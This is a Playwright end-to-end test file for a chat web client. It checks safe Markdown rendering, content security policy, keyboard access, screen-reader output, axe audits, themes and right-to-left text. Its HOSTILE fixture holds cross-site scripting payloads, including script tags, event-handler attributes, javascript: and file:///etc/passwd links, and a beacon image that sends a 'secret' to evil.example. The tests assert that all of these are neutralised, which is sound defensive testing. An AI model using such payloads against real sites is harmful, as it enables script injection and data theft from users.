"""What an answer may not do, and who can use the page: hostile Markdown, the deployed site's policy, keyboard, axe, themes."""

import threading

import httpx2
import pytest
from playwright.sync_api import Browser, expect

from infra.edge_rules import content_security_policy
from local.model.script import ScriptedModel, done, finish, token, tokens, usage, wait_for
from local.system import LocalSystem
from tests.e2e.web.conftest import ROOT
from tests.e2e.web.window import Open, Window

HOSTILE = """# Hello
<script>window.owned = 1</script>
<img src="https://evil.example/a.png" onerror="window.owned = 2">

![beacon](https://evil.example/b.png?secret) ![inline](data:image/svg+xml,<svg onload=alert(1)>)
[run](javascript:window.owned=3) [read](file:///etc/passwd) [data](data:text/html,x) [fine](https://example.org/x)
<iframe src="https://evil.example/"></iframe> <a href="https://evil.example" onclick="window.owned=4">click</a>
<style>body { background: url(https://evil.example/c.png) }</style>
![ref][pic]

[pic]: https://evil.example/d.png
<svg><use href="https://evil.example/e.svg#x"/></svg> &lt;b&gt; <details open ontoggle="window.owned=5">
"""
RICH = """Here is **code** and a table:

```python
def double(number: int) -> int:
    # twice
    return number * 2
```

| Left | Right |
|:---|---:|
| one | 1 |

1. first
2. second

- [x] done
- [ ] open

> quoted

[a link](https://example.org)
"""


def test_hostile_markdown_runs_nothing_and_asks_nobody(open_window: Open, model: ScriptedModel) -> None:
    model.plays(*[token(one) for one in HOSTILE.splitlines(keepends=True)], finish(), usage(3, 4), done())
    window = open_window()
    window.say("Attack me")
    window.until_stored()
    expect(window.answers.last).to_contain_text("<script>window.owned = 1</script>")
    window.page.wait_for_load_state("networkidle")

    assert window.foreign == [], "no request left"
    assert window.run("() => window.owned") is None
    prose = window.answers.last
    assert prose.locator("script, img, iframe, style, svg:not(.icon), details").count() == 0
    links = prose.locator("a").evaluate_all("all => all.map((one) => [one.getAttribute('href'), one.rel])")
    assert all(href.startswith("https://") and "noreferrer" in rel for href, rel in links)
    assert prose.get_by_role("link", name="Image: beacon (evil.example)").count() == 1
    expect(prose).to_contain_text("<b>")


def test_the_client_keeps_to_the_policy_of_the_deployed_site(open_window: Open, api: httpx2.Client, model: ScriptedModel) -> None:
    policy = content_security_policy([]).replace("; upgrade-insecure-requests", "")
    assert api.get("/new").headers["content-security-policy"] == policy  # the strict front's, to every page of these tests
    model.plays(token(RICH), finish(), usage(3, 4), done())
    window = open_window()
    window.say("Everything, please")
    window.until_stored()
    expect(window.answers.last.locator(".hljs-keyword").first).to_have_text("def")
    assert [one for one in window.problems if "Content Security Policy" in one] == []


def test_everything_by_keyboard(open_window: Open, model: ScriptedModel) -> None:
    never = threading.Event()
    window = open_window()
    keyboard = window.page.keyboard
    expect(window.box).to_be_focused()
    keyboard.type("line one")
    keyboard.press("Shift+Enter")
    keyboard.type("line two")
    keyboard.press("Enter")
    expect(window.questions.last).to_have_text("line one\nline two", use_inner_text=True)
    window.until_stored()
    model.plays(token("Going"), wait_for(never), finish(), done())
    keyboard.type("Go on")
    keyboard.press("Enter")
    expect(window.answers.last).to_have_text("Going")
    keyboard.press("Escape")
    expect(window.page.get_by_text("You stopped this answer.")).to_be_visible()
    never.set()
    keyboard.press("ArrowUp")
    expect(window.page.get_by_role("textbox", name="Edit your message")).to_be_focused()
    keyboard.press("Escape")
    expect(window.box).to_be_focused()
    keyboard.press("Control+k")
    keyboard.press("Tab")
    focused = window.page.locator(":focus")
    expect(focused).to_have_attribute("href", window.path)
    keyboard.press("Tab")
    keyboard.press("Enter")
    expect(window.page.get_by_role("menuitem", name="Rename")).to_be_focused()
    keyboard.press("ArrowDown")
    expect(window.page.get_by_role("menuitem", name="Export")).to_be_focused()
    keyboard.press("Escape")
    expect(window.page.get_by_role("menu")).to_have_count(0)


def test_the_skip_link_is_first_and_leads_to_the_chat(open_window: Open) -> None:
    window = open_window()
    expect(window.box).to_be_focused()
    window.run("() => { document.body.tabIndex = -1; document.body.focus(); }")
    window.page.keyboard.press("Tab")
    skip = window.page.get_by_role("link", name="Skip to the chat")
    expect(skip).to_be_focused()
    window.page.keyboard.press("Enter")
    expect(window.box).to_be_focused()


def test_a_screen_reader_is_told_of_the_beginning_and_the_end_not_of_each_word(open_window: Open, model: ScriptedModel) -> None:
    model.plays(tokens(*["word "] * 30, delay_s=0.02), finish(), usage(3, 4), done())
    window = open_window()
    window.run("""() => {
        window.said = [];
        for (const region of document.querySelectorAll('[aria-live], [role=status]'))
            new MutationObserver(() => window.said.push(region.textContent))
                .observe(region, { subtree: true, childList: true, characterData: true });
    }""")
    window.say("Thirty words")
    window.until_stored()

    assert window.run("() => window.said") == ["The assistant is answering.", "The answer is complete."]
    assert window.page.locator(".messages").evaluate("one => one.closest('[aria-live], [role=log], [role=status]')") is None


@pytest.mark.parametrize(("width", "scheme"), [(390, "light"), (1440, "dark")])
def test_axe_finds_nothing(browser: Browser, stack: LocalSystem, model: ScriptedModel, scheme: str, width: int) -> None:
    context = browser.new_context(viewport={"width": width, "height": 900}, color_scheme=scheme, reduced_motion="reduce")  # type: ignore[arg-type]
    window = Window.on(context, stack.url).open()
    expect(window.page.get_by_text("What would you like to know?")).to_be_visible()
    found = {"empty": axe(window)}
    model.plays(token(RICH), finish(), usage(3, 4), done())
    window.say("Everything, please")
    window.until_stored()
    expect(window.answers.last.locator(".hljs-keyword").first).to_be_visible()
    found["finished"] = axe(window)
    window.page.keyboard.press("Control+k")
    window.page.get_by_role("button", name="Actions for Everything, please").first.click()
    found["list and menu"] = axe(window)
    window.open("/chat/01890000-0000-7000-8000-000000000000")
    expect(window.page.get_by_text("This chat is not there.")).to_be_visible()
    found["missing"] = axe(window)
    context.close()

    assert found == {name: [] for name in found}


def axe(window: Window) -> list[str]:
    source = ROOT / "web" / "node_modules" / "axe-core" / "axe.min.js"
    if not source.is_file():
        pytest.skip("axe-core is not installed (make web-build)")
    window.page.evaluate(source.read_text(encoding="utf-8"))  # a script tag would break the policy
    found: list[str] = window.run(
        "async () => (await axe.run()).violations.map((one) => `${one.id}: ${one.nodes.map((node) => node.html).join(' | ')}`)"
    )
    return found


def test_the_theme_is_the_systems(browser: Browser, stack: LocalSystem) -> None:
    grounds = []
    for scheme in ("light", "dark"):
        context = browser.new_context(color_scheme=scheme)
        window = Window.on(context, stack.url).open()
        expect(window.box).to_be_visible()
        grounds.append(window.run("() => getComputedStyle(document.body).backgroundColor"))
        context.close()

    light, dark = (sum(map(int, ground.removeprefix("rgb(").removesuffix(")").split(","))) for ground in grounds)
    assert light > 700
    assert dark < 120


def test_the_systems_own_colours_show_the_chat_on_screen_and_the_focus(browser: Browser, stack: LocalSystem) -> None:
    context = browser.new_context(forced_colors="active")
    window = Window.on(context, stack.url).open()
    window.say("In the system's colours")
    window.until_stored()
    window.chats.hover()
    expect(window.chats.locator(f"li:has(> a[href='{window.path}'])")).to_have_css("border-inline-start-style", "solid")
    expect(window.box).to_be_focused()
    expect(window.page.locator(".composer")).to_have_css("outline-style", "solid")
    context.close()


def test_right_to_left_text_reads_from_the_right(open_window: Open, model: ScriptedModel) -> None:
    model.plays(token("مرحبا بك."), finish(), usage(3, 4), done())
    window = open_window()
    window.say("שלום")
    window.until_stored()
    directions = window.page.locator(".bubble, .message.user ~ .message.assistant .prose p").evaluate_all(
        "all => all.map((one) => getComputedStyle(one).direction)"
    )
    assert directions == ["rtl", "rtl"]
